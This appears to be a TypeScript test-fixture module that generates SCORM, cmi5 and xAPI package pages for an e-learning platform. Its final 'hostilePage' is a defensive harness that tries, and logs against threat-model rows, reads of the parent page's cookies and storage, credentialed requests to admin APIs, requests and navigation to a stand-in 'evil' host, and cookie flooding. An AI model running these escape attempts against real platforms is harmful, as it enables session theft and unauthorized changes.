/** Pages of packages that a test drives from outside: everything they know hangs on `window.sco` or `window.au`. */

/**
 * A shareable content object of either SCORM: finds its API the usual way, upwards through its parents and its opener.
 */
export const scoPage = (
  title: string,
) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title><script>
(() => {
  const find = (from) => { for (let w = from, n = 0; w && n < 500; n += 1, w = w.parent === w ? null : w.parent) { try { if (w.API_1484_11) return ['2004', w.API_1484_11]; if (w.API) return ['1.2', w.API]; } catch { return null; } } return null; };
  const found = find(window) ?? (window.opener ? find(window.opener) : null);
  const api = found?.[1];
  const old = found?.[0] === '1.2';
  const calls = [];
  const call = (name, ...given) => { const answer = api[(old ? 'LMS' : '') + name](...given); calls.push([name, ...given, answer]); return answer; };
  window.sco = {
    version: found?.[0] ?? null, calls,
    initialize: () => call(old ? 'Initialize' : 'Initialize', ''),
    get: (element) => call('GetValue', element),
    set: (element, value) => call('SetValue', element, String(value)),
    commit: () => call('Commit', ''),
    terminate: () => call(old ? 'Finish' : 'Terminate', ''),
    error: () => call('GetLastError'),
    complete(score) {
      if (old) { if (score !== undefined) this.set('cmi.core.score.raw', score); this.set('cmi.core.lesson_status', 'completed'); }
      else { if (score !== undefined) this.set('cmi.score.scaled', score / 100); this.set('cmi.completion_status', 'completed'); }
      return this.commit();
    },
  };
  if (api) window.sco.initialize();
  addEventListener('pagehide', () => { if (api && document.body.dataset.quiet === undefined) window.sco.terminate(); });
})();
</script></head><body><h1>${title}</h1><p id="place"></p>
<button type="button" onclick="sco.complete(100)">Complete</button><script>document.getElementById('place').textContent = window.sco.version ?? 'no API';</script></body></html>`;

/** The same in a frame of its own, as some tools write it: the page that asks for the API is one deeper. */
export const framedPage = (title: string, inner: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body style="margin:0"><iframe src="${inner}" title="${title}" style="border:0;width:100%;height:100vh"></iframe></body></html>`;

/** An assignable unit of cmi5: fetches its token once, then says what it is told to. */
export const auPage = (
  title: string,
) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title><script>
(() => {
  const given = new URLSearchParams(location.search);
  const endpoint = given.get('endpoint');
  const actor = JSON.parse(given.get('actor') ?? 'null');
  const ask = (path, options = {}) => fetch(endpoint + (endpoint?.endsWith('/') ? '' : '/') + path, { ...options, headers: { 'x-experience-api-version': '1.0.3', authorization: 'Basic ' + window.au.token, 'content-type': 'application/json', ...options.headers } });
  window.au = {
    given: Object.fromEntries(given), token: null, launchData: null,
    async begin() {
      this.token = (await (await fetch(given.get('fetch'), { method: 'POST' })).json())['auth-token'];
      const at = new URLSearchParams({ activityId: given.get('activityId'), agent: given.get('actor'), registration: given.get('registration'), stateId: 'LMS.LaunchData' });
      this.launchData = await (await ask('activities/state?' + at)).json();
      await ask('agents/profile?' + new URLSearchParams({ agent: given.get('actor'), profileId: 'cmi5LearnerPreferences' }));
      return this.say('initialized');
    },
    async say(verb, more = {}) {
      const duration = 'PT1S';
      const result = { completed: { completion: true, duration, ...more }, passed: { success: true, duration, ...more }, failed: { success: false, duration, ...more }, terminated: { duration, ...more } }[verb];
      const context = { ...this.launchData?.contextTemplate, registration: given.get('registration') };
      const defined = ['initialized', 'completed', 'passed', 'failed', 'terminated'].includes(verb);
      if (defined) context.contextActivities = { ...context.contextActivities, category: [{ id: 'https://w3id.org/xapi/cmi5/context/categories/cmi5' }, ...(['completed', 'passed', 'failed'].includes(verb) ? [{ id: 'https://w3id.org/xapi/cmi5/context/categories/moveon' }] : [])] };
      const mark = this.launchData?.masteryScore;
      if (more.score && mark !== undefined) context.extensions = { ...context.extensions, 'https://w3id.org/xapi/cmi5/context/extensions/masteryscore': mark };
      const body = { id: crypto.randomUUID(), actor, verb: { id: 'http://adlnet.gov/expapi/verbs/' + verb }, object: { id: given.get('activityId') }, context, ...(result && { result }), timestamp: new Date().toISOString() };
      const answer = await ask('statements', { method: 'POST', body: JSON.stringify(body) });
      return answer.status;
    },
  };
})();
</script></head><body><h1>${title}</h1></body></html>`;

/** An xAPI activity as tincan.xml launches it: its credentials are in its address. */
export const xapiPage = (
  title: string,
) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title><script>
(() => {
  const given = new URLSearchParams(location.search);
  window.xapi = {
    given: Object.fromEntries(given),
    async say(verb, result) {
      const body = { actor: JSON.parse(given.get('actor')), verb: { id: 'http://adlnet.gov/expapi/verbs/' + verb }, object: { id: given.get('activity_id') }, context: { registration: given.get('registration') ?? undefined }, ...(result && { result }) };
      const answer = await fetch(given.get('endpoint').replace(/\\/?$/, '/statements'), { method: 'POST', body: JSON.stringify(body), headers: { 'x-experience-api-version': '1.0.3', authorization: given.get('auth'), 'content-type': 'application/json' } });
      return answer.status;
    },
  };
})();
</script></head><body><h1>${title}</h1></body></html>`;

/**
 * Tries what a package must never be able to do, and keeps what came of it in `window.loot` (row of the threat model →
 * 'blocked' or what was reached). `evil`: an address outside, which must never be asked; `app`: the origin of the
 * platform.
 */
export const hostilePage = ({
  app,
  evil,
}: {
  app: string;
  evil: string;
}) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head><body><h1>Hostile</h1><script>
window.loot = {};
const keep = (row, name, value) => ((window.loot[row] ??= {})[name] = value);
const attempt = async (row, name, run) => { try { const value = await run(); keep(row, name, value === undefined || value === null || value === '' || value === false ? 'blocked' : 'reached: ' + String(value).slice(0, 200)); } catch { keep(row, name, 'blocked'); } };
const app = ${JSON.stringify(app)}, evil = ${JSON.stringify(evil)};
const within = (run, ms = 1500) => Promise.race([run, new Promise((_, no) => setTimeout(no, ms, new Error('late')))]);
window.attack = async () => {
  await attempt('E01', 'top document', () => top.document.body.innerHTML);
  await attempt('E01', 'top location', () => top.location.href);
  await attempt('E01', 'top cookie', () => top.document.cookie);
  await attempt('E01', 'top storage', () => top.localStorage.length + 1);
  await attempt('E01', 'opener', () => window.opener && window.opener.location.href);
  await attempt('E01', 'own cookie', () => document.cookie);
  for (const path of ['/api/me', '/api/main/profile']) {
    await attempt('E02', 'fetch ' + path, async () => (await within(fetch(app + path, { credentials: 'include' }))).status);
    await attempt('E02', 'XHR ' + path, () => { const x = new XMLHttpRequest(); x.open('GET', app + path, false); x.withCredentials = true; x.send(); return x.status; });
  }
  await attempt('E02', 'POST', async () => (await within(fetch(app + '/api/admin/content', { method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"kind":"lesson","title":"Owned by a package"}' }))).type);
  await attempt('E02', 'WebSocket', () => within(new Promise((yes, no) => { const s = new WebSocket(app.replace('http', 'ws') + '/'); s.onopen = () => yes('open'); s.onerror = no; })));
  await attempt('E02', 'image', () => within(new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = no; i.src = app + '/api/me'; })));
  const form = Object.assign(document.createElement('form'), { method: 'post', action: app + '/api/admin/content', enctype: 'text/plain', target: 'sink' });
  const sink = Object.assign(document.createElement('iframe'), { name: 'sink' });
  document.body.append(sink, form);
  await attempt('E02', 'form', async () => { form.submit(); await new Promise((yes) => setTimeout(yes, 300)); return null; });
  await attempt('E02', 'beacon', () => { navigator.sendBeacon(app + '/api/admin/content', 'x'); return null; });
  await attempt('E03', 'fetch evil', async () => (await within(fetch(evil + '/fetch', { mode: 'no-cors' }))).type);
  await attempt('E03', 'image evil', () => within(new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = no; i.src = evil + '/image'; })));
  await attempt('E04', 'popup', () => window.open(evil + '/popup'));
  await attempt('E04', 'top navigation', () => { top.location = evil + '/top'; return null; });
  await attempt('E04', 'alert', () => confirm('Owned?'));
  await attempt('E05', 'service worker', async () => (await within(navigator.serviceWorker.register('worker.js'))).scope);
  await attempt('E06', 'storage', () => { localStorage.setItem('package', 'one'); return null; });
  await attempt('E07', 'cookies', () => { for (let n = 0; n < 300; n += 1) document.cookie = 'c' + n + '=' + 'x'.repeat(230) + '; path=/'; return document.cookie && document.cookie.length; });
  await attempt('D15', 'message', () => { for (const data of [{ type: 'scorm', completed: true }, { type: 'navigate', to: evil }, 'exit']) top.postMessage(data, '*'); return null; });
  return window.loot;
};
/** The last thing it does: it leaves for elsewhere with what it knows. */
window.leave = () => { location.href = evil + '/leave?who=learner'; };
</script></body></html>`;
